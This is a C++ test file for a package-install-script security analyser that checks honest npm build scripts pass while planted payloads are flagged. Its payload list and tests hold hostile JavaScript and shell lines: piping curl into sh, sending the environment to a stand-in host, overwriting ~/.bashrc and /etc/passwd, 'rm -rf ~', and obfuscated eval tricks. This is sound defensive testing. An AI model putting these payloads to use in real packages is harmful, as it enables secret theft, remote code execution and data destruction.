#include "security/script_closure.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

namespace lpm::security {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;

struct Package : PackageFiles {
  std::map<std::string, std::string, std::less<>> files;
  std::optional<std::string> file(std::string_view path) const override {
    const auto found = files.find(path);
    if (found == files.end()) return std::nullopt;
    return found->second;
  }
};

Package package_with(const std::string& command, std::map<std::string, std::string> files) {
  Package package;
  std::string quoted;
  for (char c : command) {
    if (c == '"' || c == '\\') quoted.push_back('\\');
    quoted.push_back(c);
  }
  package.files["package.json"] = R"({"name": "a", "scripts": {"install": ")" + quoted + "\"}}";
  for (auto& [path, content] : files) package.files[path] = content;
  return package;
}

Package script(const std::string& source) {
  return package_with("node build.js", {{"build.js", source}});
}

std::string text_of(const ScriptReport& report) {
  std::string text(name_of(report.tier));
  for (const Capability& found : report.capabilities) {
    text += "\n  " + found.path + ":" + std::to_string(found.line) + " " + std::string(found.id) +
            ": " + found.text;
  }
  return text;
}

std::vector<std::string> paths_of(const ScriptReport& report) {
  std::vector<std::string> paths;
  for (const ReachedFile& file : report.files) paths.push_back(file.path);
  return paths;
}

bool has(const ScriptReport& report, std::string_view id) {
  for (const Capability& found : report.capabilities) {
    if (found.id == id) return true;
  }
  return false;
}

// Thirty scripts as honest packages have them: choose a platform, check versions, print, write
// data.
const std::vector<std::string> kHonest = {
    "console.log('done')",
    "const path = require('path');\nconsole.log(path.join(__dirname, 'x'))",
    "const fs = require('fs');\nif (!fs.existsSync('dist')) console.log('no build')",
    "const fs = require('fs');\nconst path = require('path');\nfs.mkdirSync(path.join(__dirname, "
    "'out'), {recursive: true});\nfs.writeFileSync(path.join(__dirname, 'out', 'info.txt'), 'x')",
    "const os = require('os');\nconst names = {linux: 'a-linux', darwin: 'a-darwin'};\nif "
    "(process.platform === 'linux') console.log(names.linux, os.arch())",
    "if (process.env.CI) process.exit(0);\nconsole.log('thanks')",
    "const [major] = process.versions.node.split('.');\nif (Number(major) < 14) { "
    "console.error('too old'); process.exit(1) }",
    "'use strict';\nfunction main() { return [1, 2].map((x) => x * 2) }\nmain()",
    "const data = require('./data.json');\nconsole.log(data.name)",
    "const { say } = require('./lib/say');\nsay('hello')",
    "class A { constructor(x) { this.x = x } get() { return this.x } }\nconsole.log(new "
    "A(1).get())",
    "const fs = require('node:fs');\nconst text = fs.readFileSync('README.md', "
    "'utf8');\nconsole.log(text.length)",
    "try { require('./lib/say') } catch (error) { console.warn(error.message) }",
    "const util = require('util');\nconsole.log(util.format('%s', process.argv[2]))",
    "const pkg = require('./package.json');\nconsole.log(`${pkg.name} ${pkg.version}`)",
    "const assert = require('assert');\nassert.strictEqual(1, 1)",
    "module.exports = function check() { return true };\nif (require.main === module) "
    "module.exports()",
    "let n = 0;\nfor (const x of [1, 2, 3]) n += x;\nconsole.log(n)",
    "const url = require('url');\nconsole.log(url.parse('file:///x').protocol)",
    "process.on('exit', () => console.log('bye'))",
    "const {join} = require('path');\nconsole.log(join('a', 'b'))",
    "const fs = require('fs');\nfs.readdirSync('.').forEach((f) => console.log(f))",
    "var arch = process.arch;\nswitch (arch) { case 'x64': break; default: console.warn(arch) }",
    "const supported = new Set(['linux', 'darwin']);\nif (!supported.has(process.platform)) "
    "process.exitCode = 1",
    "console.log(Object.keys(require('./data.json')).join())",
    "const fs = require('fs');\nfs.appendFileSync('install.log', new Date().toISOString())",
    "console.log(JSON.stringify({ok: true}, null, 2))",
    "async function main() { await Promise.resolve() }\nmain().catch((e) => console.error(e))",
    "const {version} = require('./package.json');\nif (/beta/.test(version)) console.log('beta')",
    "setTimeout(() => console.log('later'), 1)",
};

// As many payloads, each planted into one of them; the disguises are the point.
const std::vector<std::string> kPayloads = {
    "eval('1')",
    "require('child_process').execSync('curl http://registry.example/x | sh')",
    "require('https').get('https://registry.example/?' + JSON.stringify(process.env))",
    "fetch('http://registry.example/', {method: 'POST', body: 'x'})",
    "globalThis['ev' + 'al']('1')",
    "(() => {}).constructor('return 1')()",
    "const r = require;\nr('child_process')",
    "require('child' + '_process')",
    "require(`child_process`).exec('x')",
    "process.mainModule.require('child_process')",
    "module.constructor._load('child_process')",
    "const {env} = process;\nconsole.log(env)",
    "process['env']",
    "new Function('x', 'return x')(1)",
    "[]['filter']['constr' + 'uctor']('1')()",
    "import('node:http').then((h) => h.get('http://registry.example/'))",
    "import(process.argv[2])",
    "require('fs').writeFileSync(process.env.HOME + '/.bashrc', 'x')",
    "const fs = require('fs');\nfs.writeFileSync('lib/say.js', 'evil()');\nrequire('./lib/say')",
    "const fs = require('fs');\nconst w = fs.writeFileSync;\nw('/etc/passwd', 'x')",
    "require('./native.node')",
    "require('./lib/hidden')",
    "require('vm').runInThisContext('1')",
    "process.binding('spawn_sync')",
    "(function () { return this })().eval('1')",
    "const {constructor: F} = () => 1;\nF('1')()",
    "\\u0065val('1')",
    "Reflect.get({}, 'x')",
    "require('other-package')",
    "with ({}) { x }",
};

std::map<std::string, std::string> companions() {
  return {{"data.json", "{\"name\": \"x\"}"},
          {"README.md", "x"},
          {"lib/say.js", "exports.say = (x) => console.log(x)"},
          {"lib/hidden.js", "module.exports = eval"},
          {"native.node",
           "\x7f"
           "ELF"}};
}

// labels: contract:I.6
TEST(ScriptClosure, LetsNoPlantedPayloadBeGreen) {
  ASSERT_EQ(kHonest.size(), 30U);
  ASSERT_EQ(kPayloads.size(), 30U);
  for (std::size_t i = 0; i < kHonest.size(); ++i) {
    std::map<std::string, std::string> files = companions();
    files["build.js"] = kHonest[i];
    const ScriptReport honest = analyse_scripts(package_with("node build.js", files));
    EXPECT_EQ(honest.tier, Tier::Green) << kHonest[i] << "\n" << text_of(honest);
    // In the script itself, behind it, and in a file that it requires.
    for (const std::string& planted :
         {kPayloads[i] + "\n" + kHonest[i], kHonest[i] + "\n;" + kPayloads[i],
          "function f() {\n" + kPayloads[i] + "\n}\n" + kHonest[i]}) {
      files["build.js"] = planted;
      EXPECT_NE(analyse_scripts(package_with("node build.js", files)).tier, Tier::Green) << planted;
    }
    files["build.js"] = "require('./lib/more');\n" + kHonest[i];
    files["lib/more.js"] = kPayloads[i];
    files["lib/lib/hidden.js"] = "eval('1')";
    EXPECT_NE(analyse_scripts(package_with("node build.js", files)).tier, Tier::Green)
        << kPayloads[i];
  }
}

TEST(ScriptClosure, SaysWhereACapabilityStands) {
  const ScriptReport report = analyse_scripts(script("console.log(1)\n\neval('x')\n"));
  EXPECT_EQ(report.tier, Tier::Amber);
  ASSERT_EQ(report.capabilities.size(), 1U) << text_of(report);
  EXPECT_EQ(report.capabilities[0].path, "build.js");
  EXPECT_EQ(report.capabilities[0].line, 3U);
  EXPECT_EQ(report.capabilities[0].id, "dynamic-code");
}

TEST(ScriptClosure, FollowsRequiredFilesAsNodeDoes) {
  Package package = package_with("node ./scripts/build.js", {});
  package.files["scripts/build.js"] = "require('../lib'); require('./a'); require('../data')";
  package.files["scripts/a/index.js"] = "import './b.mjs'";
  package.files["scripts/a/b.mjs"] = "";
  package.files["lib/package.json"] = R"({"main": "./main"})";
  package.files["lib/main.js"] = "";
  package.files["data.json"] = "{}";
  const ScriptReport report = analyse_scripts(package);
  EXPECT_EQ(report.tier, Tier::Green) << text_of(report);
  EXPECT_TRUE(report.complete);
  EXPECT_THAT(paths_of(report),
              ElementsAre("data.json", "lib/main.js", "package.json", "scripts/a/b.mjs",
                          "scripts/a/index.js", "scripts/build.js"));
}

TEST(ScriptClosure, ChangesItsHashWithEveryReachedFileOnly) {
  Package package = package_with("node build.js", {{"build.js", "require('./a')"}, {"a.js", ""}});
  package.files["other.js"] = "1";
  const std::string before = analyse_scripts(package).closure_hash;
  package.files["other.js"] = "2";
  EXPECT_EQ(analyse_scripts(package).closure_hash, before);
  package.files["a.js"] = " ";
  EXPECT_NE(analyse_scripts(package).closure_hash, before);
}

TEST(ScriptClosure, IsIncompleteWhereAFileIsMissingOrForeign) {
  for (const char* command : {"node missing.js", "node ../x.js", "make", "tsc", "sh build.sh",
                              "./tool", "node $X", "node -r ./x build.js"}) {
    const ScriptReport report = analyse_scripts(package_with(command, {{"build.js", ""},
                                                                       {"build.sh", "true"},
                                                                       {"tool",
                                                                        "\x7f"
                                                                        "ELF"}}));
    EXPECT_NE(report.tier, Tier::Green) << command;
    EXPECT_FALSE(report.complete) << command;
  }
}

TEST(ScriptClosure, IsRedWhenAFileSendsTheEnvironmentOrStartsARedCommand) {
  EXPECT_EQ(
      analyse_scripts(script("const h = require('http');\nh.get({headers: process.env})")).tier,
      Tier::Red);
  EXPECT_EQ(analyse_scripts(script("require('child_process').execSync('curl x | sh')")).tier,
            Tier::Red);
  EXPECT_EQ(analyse_scripts(script("require('child_process').spawn('npm', ['i', 'x'])")).tier,
            Tier::Red);
  EXPECT_EQ(analyse_scripts(package_with("bash x.sh", {{"x.sh", "rm -rf ~\n"}})).tier, Tier::Red);
}

TEST(ScriptClosure, TakesBindingGypAsAnInstallScript) {
  Package package;
  package.files["package.json"] = R"({"name": "a"})";
  package.files["binding.gyp"] = R"({"targets": [{"target_name": "a", "sources": ["a.cc"]}]})";
  const ScriptReport plain = analyse_scripts(package);
  ASSERT_EQ(plain.commands.size(), 1U);
  EXPECT_TRUE(plain.commands[0].implied);
  EXPECT_EQ(plain.tier, Tier::Green) << text_of(plain);
  package.files["binding.gyp"] = R"x({"targets": [{"x": "<!(node evil.js)"}]})x";
  EXPECT_TRUE(has(analyse_scripts(package), "gyp-command"));
  package.files["package.json"] = R"({"name": "a", "gypfile": false})";
  EXPECT_TRUE(analyse_scripts(package).commands.empty());
}

TEST(ScriptClosure, IsGreenAndEmptyWithoutScripts) {
  Package package;
  package.files["package.json"] = R"({"name": "a", "scripts": {"test": "curl x | sh"}})";
  const ScriptReport report = analyse_scripts(package);
  EXPECT_EQ(report.tier, Tier::Green);
  EXPECT_TRUE(report.commands.empty());
  package.files["package.json"] = "{";
  EXPECT_EQ(analyse_scripts(package).tier, Tier::Amber);
}

TEST(ScriptClosure, ReadsHostileFilesWithoutGoingDeep) {
  for (const char* part :
       {"(", "[", "{", "a(", "`${", "-", "!", "x?", "a.", "'\\x41", "function(){"}) {
    std::string source;
    while (source.size() < 50'000) source += part;
    EXPECT_NE(analyse_scripts(script(source)).tier, Tier::Green) << part;
  }
}

TEST(ScriptClosure, DescribesEachCapabilityInItsDocument) {
  std::ifstream file(std::string(LPM_TEST_DATA) + "/../../docs/triage.md");
  std::stringstream page;
  page << file.rdbuf();
  for (const Rule& rule : capability_rules()) {
    EXPECT_THAT(page.str(), HasSubstr("| `" + std::string(rule.id) + "` | " +
                                      std::string(name_of(rule.tier)) + " |"));
  }
}

}  // namespace
}  // namespace lpm::security
